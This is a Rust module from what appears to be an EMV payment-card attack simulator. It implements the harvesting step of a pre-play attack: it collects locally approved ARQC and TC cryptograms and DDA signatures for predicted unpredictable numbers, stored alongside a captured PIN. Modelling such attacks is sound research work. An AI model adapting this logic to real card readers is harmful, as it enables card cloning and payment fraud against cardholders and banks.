use std::collections::BTreeMap;

use thiserror::Error;

use crate::actors::{CardCommand, CardEndpoint, CardResponse};
use crate::emv::{Arc, Cryptogram, CryptogramKind, StaticCardData, TransactionContext, Un};
use crate::unzoo::SimClock;

/// Time one ARQC+TC harvest costs on the skimming terminal.
pub const HARVEST_COST_US: u64 = 280_000;
/// Standard authorisation time limit.
pub const AUTH_TIME_LIMIT_US: u64 = 30_000_000;

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PreplayEntry {
    pub un: Un,
    pub arqc: Cryptogram,
    pub tc: Cryptogram,
    pub ctx_template: TransactionContext,
    /// INTERNAL AUTHENTICATE answer for this UN, on DDA cards.
    pub dda_signature: Option<Vec<u8>>,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PreplayTable {
    pub static_data: StaticCardData,
    pub pin: String,
    pub entries: BTreeMap<Un, PreplayEntry>,
    /// The time budget ran out before every target was harvested.
    pub partial: bool,
}

impl PreplayTable {
    pub fn get(&self, un: Un) -> Option<&PreplayEntry> {
        self.entries.get(&un)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Entries in harvest (ATC) order.
    pub fn by_atc(&self) -> Vec<&PreplayEntry> {
        let mut v: Vec<&PreplayEntry> = self.entries.values().collect();
        v.sort_by_key(|e| e.arqc.atc);
        v
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SkimBudget {
    pub time_budget_us: u64,
    pub cost_per_harvest_us: u64,
}

impl Default for SkimBudget {
    fn default() -> Self {
        SkimBudget {
            time_budget_us: AUTH_TIME_LIMIT_US,
            cost_per_harvest_us: HARVEST_COST_US,
        }
    }
}

impl SkimBudget {
    pub fn capacity(&self) -> usize {
        (self.time_budget_us / self.cost_per_harvest_us.max(1)) as usize
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum SkimError {
    #[error("no target UNs")]
    EmptyTargets,
    #[error("card did not answer {0}")]
    CardSilent(&'static str),
    #[error("card answered {0} unexpectedly")]
    Unexpected(&'static str),
}

fn ask(card: &mut dyn CardEndpoint, cmd: CardCommand, clock: &SimClock) -> Result<CardResponse, SkimError> {
    let name = cmd.name();
    match card.handle(&cmd, clock) {
        None => Err(SkimError::CardSilent(name)),
        Some(r) => match r.response {
            CardResponse::Error(_) => Err(SkimError::Unexpected(name)),
            resp => Ok(resp),
        },
    }
}

fn cryptogram(r: CardResponse, kind: CryptogramKind, name: &'static str) -> Result<Cryptogram, SkimError> {
    match r {
        CardResponse::Cryptogram(c) if c.kind == kind => Ok(c),
        _ => Err(SkimError::Unexpected(name)),
    }
}

/// Harvests an ARQC and TC per target UN from a card under the attacker's
/// control, approving each locally without any issuer.
pub fn skim(
    card: &mut dyn CardEndpoint,
    targets: &[Un],
    ctx_template: TransactionContext,
    captured_pin: &str,
    budget: SkimBudget,
    clock: &mut SimClock,
) -> Result<PreplayTable, SkimError> {
    if targets.is_empty() {
        return Err(SkimError::EmptyTargets);
    }
    let static_data = match ask(card, CardCommand::ReadRecords, clock)? {
        CardResponse::Records(sd) => sd,
        _ => return Err(SkimError::Unexpected("READ_RECORDS")),
    };
    let n = targets.len().min(budget.capacity());
    let mut entries = BTreeMap::new();
    for &un in &targets[..n] {
        let ctx = ctx_template.with_un(un);
        let dda_signature = if static_data.dda_capable() {
            match ask(card, CardCommand::InternalAuthenticate(un), clock)? {
                CardResponse::DdaSignature(sig) => Some(sig),
                _ => return Err(SkimError::Unexpected("INTERNAL_AUTHENTICATE")),
            }
        } else {
            None
        };
        let arqc = cryptogram(
            ask(card, CardCommand::GenerateAcArqc(ctx), clock)?,
            CryptogramKind::Arqc,
            "GENERATE_AC_ARQC",
        )?;
        let tc = cryptogram(
            ask(card, CardCommand::GenerateAcTc { ctx, arc: Arc::Approve }, clock)?,
            CryptogramKind::Tc,
            "GENERATE_AC_TC",
        )?;
        clock.advance_us(budget.cost_per_harvest_us);
        entries.insert(
            un,
            PreplayEntry {
                un,
                arqc,
                tc,
                ctx_template: ctx,
                dda_signature,
            },
        );
    }
    Ok(PreplayTable {
        static_data,
        pin: captured_pin.to_string(),
        entries,
        partial: n < targets.len(),
    })
}
